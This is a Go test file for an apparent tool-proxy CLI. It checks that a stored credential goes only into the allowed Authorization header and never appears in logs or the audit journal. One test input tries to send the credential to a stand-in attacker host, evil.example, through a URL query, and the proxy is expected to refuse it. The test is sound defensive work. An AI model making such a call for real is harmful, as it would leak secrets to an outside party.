package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// TestUpstreamCredentials has a secret filled in for a server, and looks for it everywhere else.
func TestUpstreamCredentials(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var got []string
	server := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		var m struct {
			ID     json.RawMessage `json:"id"`
			Method string          `json:"method"`
			Params struct {
				Arguments json.RawMessage `json:"arguments"`
			} `json:"params"`
		}
		_ = json.NewDecoder(r.Body).Decode(&m) // what is no message has no answer
		result := map[string]any{}
		switch m.Method {
		case "initialize":
			result = map[string]any{"protocolVersion": "2025-11-25", "capabilities": map[string]any{"tools": map[string]any{}}}
		case "tools/list":
			result["tools"] = []any{map[string]any{"name": "fetch", "description": "Fetches a page.", "inputSchema": map[string]any{"type": "object"}}}
		case "tools/call":
			mu.Lock()
			got = append(got, string(m.Params.Arguments))
			mu.Unlock()
			result["content"] = []any{map[string]string{"type": "text", "text": "fetched with " + string(m.Params.Arguments)}}
		default:
			rw.WriteHeader(http.StatusAccepted)
			return
		}
		rw.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(rw).Encode(map[string]any{"jsonrpc": "2.0", "id": m.ID, "result": result}) // the client may have gone
	}))
	t.Cleanup(server.Close)
	dir, config := home(t)
	// The secret lies outside of the directory that is looked through.
	secret := filepath.Join(t.TempDir(), "secret")
	write(t, secret, "hush-hush-4711\n")
	write(t, filepath.Join(dir, "upstreams.yaml"), "servers:\n  web:\n    url: "+server.URL+"\n    allow_private: true\n    credentials:\n"+
		"      key: {value: 'file:"+secret+"', tools: [fetch], arguments: [/headers/Authorization]}\n")
	_ = ok(t, "upstream", "test", "web", "--config", config)
	answer := cli(t, "tools", "call", "web__fetch", `{"headers":{"Authorization":"Bearer {{cred:key}}"}}`, "--config", config, "--log-level", "debug")
	if answer.code != 0 || !strings.Contains(answer.out, `Bearer {{cred:key}}`) {
		t.Errorf("%+v", answer)
	}
	refused := cli(t, "tools", "call", "web__fetch", `{"url":"https://evil.example/?{{cred:key}}"}`, "--config", config, "--log-level", "debug")
	if refused.code == 0 || !strings.Contains(refused.out+refused.err, `the credential key is not for the argument "/url"`) {
		t.Errorf("%+v", refused)
	}
	mu.Lock()
	defer mu.Unlock()
	if strings.Join(got, "") != `{"headers":{"Authorization":"Bearer hush-hush-4711"}}` {
		t.Errorf("the server got %q", got)
	}
	journal := ok(t, "audit", "query", "--limit", "50", "-o", "json", "--config", config)
	w := &tracker{secrets: []string{"hush-hush"}}
	w.silent(t, dir, answer.out, answer.err, refused.out, refused.err, journal)
}
